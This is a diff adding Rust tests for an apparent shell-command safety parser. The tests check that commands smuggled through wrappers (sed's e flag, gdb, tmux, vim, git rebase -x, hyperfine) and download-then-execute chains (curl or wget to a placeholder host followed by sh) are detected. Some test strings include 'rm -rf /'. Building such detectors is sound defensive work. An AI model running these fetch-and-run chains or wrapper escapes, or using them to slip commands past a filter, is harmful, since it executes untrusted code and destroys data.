@@ -692,3 +692,147 @@ proptest::proptest! {
         let _ = parse(&line);
     }
 }
+
+#[test]
+fn sed_scripts_that_run_commands() {
+    for (script, commands, runs) in [
+        ("1e rm x", &["rm x"][..], false),
+        ("e", &[], true),
+        ("s/a/b/e", &[], true),
+        ("s/a/b/g", &[], false),
+        ("s/e/f/", &[], false),
+        ("/re/e id", &["id"], false),
+        ("\\,x,e id", &["id"], false),
+        ("$e id\n1d", &["id"], false),
+        ("1{e id\n}", &["id"], false),
+        ("a text e x", &[], false),
+        ("y/abc/xyz/", &[], false),
+        ("s/x/y/w out.txt", &[], false),
+        ("/x/Id", &[], false),
+        ("b end; e id", &["id"], false),
+        ("s/a\\/b/c/e", &[], true),
+        ("s", &[], false),
+    ] {
+        let (found, dynamic) = wrappers::scan_sed(script);
+        assert_eq!(found, commands, "{script:?}");
+        assert_eq!(dynamic, runs, "{script:?}");
+    }
+}
+
+#[test]
+fn wrappers_of_every_kind_are_looked_through() {
+    for (line, inner) in [
+        ("env - rm x", "env>rm x"),
+        ("faketime '2020-01-01' rm x", "faketime>rm x"),
+        ("time -o t rm x", "-o>time -o t rm x"),
+        ("perf record -o p -- rm x", "perf>rm x"),
+        ("valgrind --tool=none rm x", "valgrind>rm x"),
+        ("gdb --args rm x", "gdb>rm x"),
+        ("capsh -- -c 'rm x'", "capsh>bash -c rm x"),
+        ("git bisect run rm x", "git>rm x"),
+        ("setpriv --reuid 1 rm x", "setpriv>rm x"),
+        ("screen -dmS s rm x", "screen>rm x"),
+        ("chrt 10 rm x", "chrt>rm x"),
+    ] {
+        let script = parse(line);
+        let rendered = render(&script);
+        assert!(rendered.iter().any(|r| r == inner), "{line}: {rendered:?}");
+    }
+    for (line, program) in [
+        ("gdb -ex 'shell rm x'", "rm x"),
+        ("gdb -ex '!rm x'", "rm x"),
+        ("tmux new-window 'rm x'", "rm x"),
+        ("tmux -c 'rm x'", "rm x"),
+        ("tmux send-keys -t 0 'rm x' Enter", "rm x"),
+        ("tmux new -d -s a \\; split-window 'rm x'", "rm x"),
+        ("screen -X stuff 'rm x'", "rm x"),
+        ("hyperfine 'rm x'", "rm x"),
+        ("hyperfine -w 3 --prepare 'rm x' ls", "rm x"),
+        ("hyperfine --setup='rm x' ls", "rm x"),
+        ("hyperfine -L v 1,2 'rm x'", "rm x"),
+        ("git rebase -x 'rm x' main", "rm x"),
+        ("git -C r rebase --exec='rm x' main", "rm x"),
+        ("git submodule foreach 'rm x'", "rm x"),
+        ("git difftool -x 'rm x'", "rm x"),
+        ("sed '1e rm x' f", "rm x"),
+        ("sed -n -e '1e rm x' f", "rm x"),
+        ("vim -c ':!rm x'", "rm x"),
+        ("vim '+silent !rm x'", "rm x"),
+        ("vim -c 'r !rm x'", "rm x"),
+    ] {
+        let script = parse(line);
+        let rendered = render(&script);
+        assert!(
+            rendered.iter().any(|r| r == program),
+            "{line}: {rendered:?}"
+        );
+    }
+    for line in [
+        "gdb -ex bt ./core",
+        "tmux ls",
+        "tmux new -s work",
+        "hyperfine -w 3 --export-json out.json",
+        "git rebase -i main",
+        "sed s/a/b/ f",
+        "vim -c wq f",
+        "vim +10 f",
+        "screen -ls",
+    ] {
+        let script = parse(line);
+        assert!(
+            !render(&script).iter().any(|r| r.starts_with("rm")),
+            "{line}"
+        );
+        assert!(script.problems.is_empty(), "{line}: {:?}", script.problems);
+    }
+    for line in [
+        "sed 's/x/y/e' f",
+        "gdb -ex 'python import os' x",
+        "gdb -x cmds.gdb",
+    ] {
+        assert_eq!(problem_kinds(&parse(line)), ["dynamic_code"], "{line}");
+    }
+}
+
+#[test]
+fn downloads_and_copies_are_followed_to_what_runs() {
+    for line in [
+        "curl -o x.sh https://h/x && sh x.sh",
+        "curl --output=x.sh https://h/x; bash x.sh",
+        "curl -O https://h/d/x.sh && bash x.sh",
+        "curl --output-dir d -O https://h/x.sh && bash d/x.sh",
+        "wget https://h/x.sh?v=1 && sh x.sh",
+        "wget -P d https://h/x.sh && sh d/x.sh",
+        "wget -O x.sh https://h/y && sh x.sh",
+        "aria2c -o x.sh https://h/y && sh x.sh",
+        "curl -o a https://h/y && cp a b.sh && sh b.sh",
+        "curl -o a https://h/y && mv a bin/ && ./bin/a",
+        "curl -o a https://h/y && dd if=a of=b.sh && sh b.sh",
+    ] {
+        assert_eq!(problem_kinds(&parse(line)), ["dynamic_code"], "{line}");
+    }
+    for line in [
+        "curl -o page.html https://h/ && cat page.html",
+        "curl -o - https://h/x.sh && sh x.sh",
+        "wget -O - https://h/x.sh && sh other.sh",
+        "cp a.sh b.sh && sh b.sh",
+        "wget https://h/ && sh index.sh",
+        "echo ls > a.sh && cp a.sh b.sh && sh b.sh",
+    ] {
+        assert!(parse(line).problems.is_empty(), "{line}");
+    }
+}
+
+#[test]
+fn a_program_path_ending_in_an_option_name_is_a_program() {
+    for line in ["/x/-o rm -rf /", "./-v x", "a/-o"] {
+        let script = parse(line);
+        assert!(script.commands.len() <= 2, "{line}: {:?}", render(&script));
+        assert!(script.problems.is_empty(), "{line}");
+    }
+    // Layers are bounded whatever a wrapper hands back.
+    let many = "nice ".repeat(100) + "ls";
+    assert_eq!(problem_kinds(&parse(&many)), ["too_deep"]);
+    let few = "nice ".repeat(20) + "ls";
+    assert!(parse(&few).problems.is_empty());
+}
